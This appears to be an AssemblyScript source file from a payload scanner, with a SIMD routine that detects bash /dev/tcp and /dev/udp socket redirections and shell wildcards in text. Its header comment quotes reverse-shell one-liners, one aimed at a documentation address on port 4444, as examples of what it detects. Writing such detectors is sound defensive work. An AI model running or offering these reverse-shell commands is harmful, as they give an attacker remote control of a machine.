// bash's network redirection: a path under /dev/tcp/ or /dev/udp/ with a host and a port
// (`bash -i >& /dev/tcp/198.51.100.7/4444 0>&1`), which bash, and no file system, opens as a
// socket: the reverse shell of every payload list, and no application's file. The model scored
// `sh -i >& /dev/udp/…/4444 0>&1` 42 as a whole value. Read by core/payloads.ts for texts with a
// '/', in one pass that also notes the shell's wildcards for core/globpath.ts; total and
// allocation-free.

import { canReadBlock } from "../lib/scan";
import { splat8 } from "../lib/splat";

// slashTextMarks' answer: bits.
export const DEV_SOCKET: u32 = 1, WILDCARD: u32 = 2;

// DEV_SOCKET when p[0..n) redirects to bash's /dev/tcp/ or /dev/udp/, WILDCARD when it holds a `?`
// or a `*`. `/de`, `?` and `*` are looked for 16 places at a time: these texts are mostly URLs, and
// a call at each of their '/' cost a JSON body 0.3% of its instructions (make profile), a pass of
// its own for the wildcards 0.3% more.
export function slashTextMarks(p: usize, n: i32): u32 {
  let marks: u32 = 0;
  let last = n - 10; // the last place a redirection can start: "/dev/tcp/" and a byte of the host
  for (let i = 0; i < n; i += 16) {
    let m: i32;
    if (canReadBlock(p + <usize>(i + 2))) {
      let v = v128.load(p + <usize>i);
      let w = i8x16.bitmask(v128.or(i8x16.eq(v, splat8(0x3F)), i8x16.eq(v, splat8(0x2A))));
      if (n - i < 16) w &= (1 << (n - i)) - 1;
      if (w != 0) marks |= WILDCARD;
      if (i > last) break;
      let b = i8x16.eq(v128.load(p + <usize>(i + 1)), splat8(0x64));
      let c = i8x16.eq(v128.load(p + <usize>(i + 2)), splat8(0x65));
      m = i8x16.bitmask(v128.and(v128.and(i8x16.eq(v, splat8(0x2F)), b), c));
      if (last - i < 15) m &= (2 << (last - i)) - 1;
    } else {
      m = 0;
      for (let k = 0; k < 16 && i + k < n; k++) {
        let x = load<u8>(p + <usize>(i + k));
        if (x == 0x3F || x == 0x2A) marks |= WILDCARD;
        if (x == 0x2F && i + k <= last) m |= 1 << k;
      }
    }
    while (m != 0) {
      let j = i + ctz(m);
      m &= m - 1;
      if (load<u32>(p + <usize>j, 1) != 0x2F766564) continue; // "dev/"
      let proto = load<u32>(p + <usize>j, 5);
      if ((proto == 0x2F706374 || proto == 0x2F706475) && load<u8>(p + <usize>(j + 9)) > 0x20) return marks | DEV_SOCKET; // "tcp/", "udp/"
    }
  }
  return marks;
}
